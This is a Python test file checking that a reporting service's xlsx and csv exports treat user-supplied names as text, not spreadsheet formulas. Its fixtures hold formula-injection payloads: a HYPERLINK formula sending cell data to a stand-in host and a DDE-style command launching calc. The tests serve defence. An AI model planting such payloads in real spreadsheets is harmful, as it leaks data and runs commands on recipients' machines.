"""Issue 17, finding 2: names from users are text in the xlsx and csv exports, never formulas."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl

from service.reporting.model import AnnualReport
from service.reporting.render.csv import render_csv
from service.reporting.render.spreadsheet_text import csv_text
from service.reporting.render.xlsx import render_xlsx
from service.reporting.report import build_annual_report
from tests.fixtures_answers import GENERATED_AS_OF, YEAR, answers

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")'
ASSOCIATION = "@SUM(1+1)*cmd|' /C calc'!A0"
# A figure the report computed (a change such as "-3" or "-8 p.e."), not text from a user.
NUMBER = re.compile(r"^[-+−]?[0-9][0-9 ]*(,[0-9]+)?( ?(%|[a-zåäö.]+))?$")


def hostile_report() -> AnnualReport:
    current, previous = answers()
    for answer in (current, previous):
        answer["interventions"][0]["name"] = HYPERLINK
        answer["interventions"][1]["name"] = "-2+3"
    return build_annual_report(
        association_name=ASSOCIATION,
        year=YEAR,
        current=current,
        previous=previous,
        generated_as_of=GENERATED_AS_OF,
    )


def test_no_xlsx_cell_is_a_formula_and_the_names_read_back_as_text() -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(render_xlsx(hostile_report())))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert any(HYPERLINK in t for t in texts), "the name is there, as text"


def test_csv_text_cells_that_could_be_formulas_are_quoted() -> None:
    archive = zipfile.ZipFile(io.BytesIO(render_csv(hostile_report())))
    seen = []
    for name in archive.namelist():
        text = archive.read(name).decode("utf-8-sig")
        for line in csv.reader(io.StringIO(text), delimiter=";"):
            for cell in line:
                seen.append(cell)
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert NUMBER.match(cell), f"{cell!r} would be read as a formula"
    assert any(cell.startswith("'") and HYPERLINK in cell for cell in seen)


def test_the_owasp_characters_are_escaped_and_others_not() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(f"{start}1+1") == f"'{start}1+1"
    assert csv_text("Samverkansteam Avesta") == "Samverkansteam Avesta"
    assert csv_text("") == ""
